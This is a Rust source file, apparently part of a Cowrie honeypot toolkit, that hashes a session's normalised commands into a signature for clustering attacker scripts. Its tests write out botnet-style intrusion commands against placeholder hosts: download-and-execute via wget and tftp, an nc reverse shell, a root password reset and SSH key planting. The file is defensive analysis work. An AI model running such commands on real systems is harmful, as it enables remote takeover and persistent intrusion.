//! The signature of a session: what it ran, in order.

use cowrie_core::hex;
use sha2::{Digest, Sha256};

use crate::template::{TEMPLATE_VERSION, carries_payload, template};

/// The signature of a session's commands, in order: `v1:` and 32 lower-case hexadecimal digits.
///
/// `None` when there are no commands, or only empty ones, which do not count. Sessions of the same
/// script have the same signature although addresses, URLs, random names, passwords and keys
/// differ. The digits are the first 128 bits of SHA-256 over [`TEMPLATE_VERSION`] (four bytes,
/// big-endian) and, for each command, the length of its [`template`] (eight bytes, big-endian) and
/// the template. A template that carries a payload counts once in a row, since a payload arrives
/// in as many commands as it is long.
pub fn signature<'a>(commands: impl IntoIterator<Item = &'a str>) -> Option<String> {
    let mut digest = Sha256::new();
    digest.update(TEMPLATE_VERSION.to_be_bytes());
    let mut last: Option<String> = None;
    for command in commands {
        let next = template(command);
        let is_repeated = carries_payload(&next) && last.as_ref() == Some(&next);
        if next.is_empty() || is_repeated {
            continue;
        }
        digest.update(u64::try_from(next.len()).unwrap_or(u64::MAX).to_be_bytes());
        digest.update(next.as_bytes());
        last = Some(next);
    }
    last.as_ref()?;
    let sum = digest.finalize();
    Some(format!("v{TEMPLATE_VERSION}:{}", hex(sum.get(..16).unwrap_or_default())))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn is_stable() {
        assert_eq!(signature(["uname -a", "id"]).unwrap(), "v1:5ee19d66189420458575a27151c0a85b");
        assert_eq!(signature(["uname  -a\n", "", "id"]), signature(["uname -a", "id"]));
        assert_eq!(signature([]), None);
        assert_eq!(signature(["", " "]), None);
    }

    /// A script with its five variable parts put in.
    fn script(host: &str, name: &str, password: &str, key: &str, probe: &str) -> Vec<String> {
        [
            "cd /tmp || cd /var/run; wget http://HOST/bins.sh -O /tmp/NAME; chmod 777 /tmp/NAME",
            "/tmp/NAME HOST; /bin/busybox PROBE",
            "tftp -g -r arm HOST 69; nc HOST 4444 -e /bin/sh",
            "echo \"root:PASSWORD\"|chpasswd|bash",
            "mkdir -p ~/.ssh; echo \"KEY x\" >> ~/.ssh/authorized_keys",
        ]
        .iter()
        .map(|line| {
            line.replace("HOST", host)
                .replace("NAME", name)
                .replace("PROBE", probe)
                .replace("PASSWORD", password)
                .replace("KEY", key)
        })
        .collect()
    }

    fn signature_of(commands: &[String]) -> Option<String> {
        signature(commands.iter().map(String::as_str))
    }

    #[test]
    fn other_hosts_names_passwords_and_keys_are_the_same_script() {
        let rsa = "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDDQ0LfD3yFkMAgW/cnyr6O2A==";
        let ed25519 = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAII8Vf9g4OdnXLpqL1o9St";
        let first = script("192.0.2.1", "x7Kq2Zb", "hunter2", rsa, "ECCHI");
        for other in [
            script("198.51.100.200", "qzkvxj", "Xk2:;|pQ", ed25519, "QWERTY"),
            script("203.0.113.9", "9f86d081", "a b", rsa, "8B35B"),
        ] {
            assert_eq!(signature_of(&first), signature_of(&other), "{other:?}");
        }
    }

    #[test]
    fn a_longer_payload_is_the_same_script() {
        let chunk = "echo -ne '\\x7f\\x45' >> f";
        assert_eq!(signature([chunk, "./f"]), signature([chunk, chunk, chunk, "./f"]));
    }

    #[test]
    fn other_scripts_differ() {
        let scripts: [&[&str]; 9] = [
            &["uname -a"],
            &["uname -a", "uname -a"],
            &["uname", "-a"],
            &["uname -a; id"],
            &["id", "uname -a"],
            &["wget http://192.0.2.1/x"],
            &["curl http://192.0.2.1/x"],
            &["wget http://192.0.2.1/x | sh"],
            &["echo a > b"],
        ];
        let signatures: std::collections::BTreeSet<_> =
            scripts.iter().map(|commands| signature(commands.iter().copied())).collect();
        assert_eq!(signatures.len(), scripts.len());
    }
}
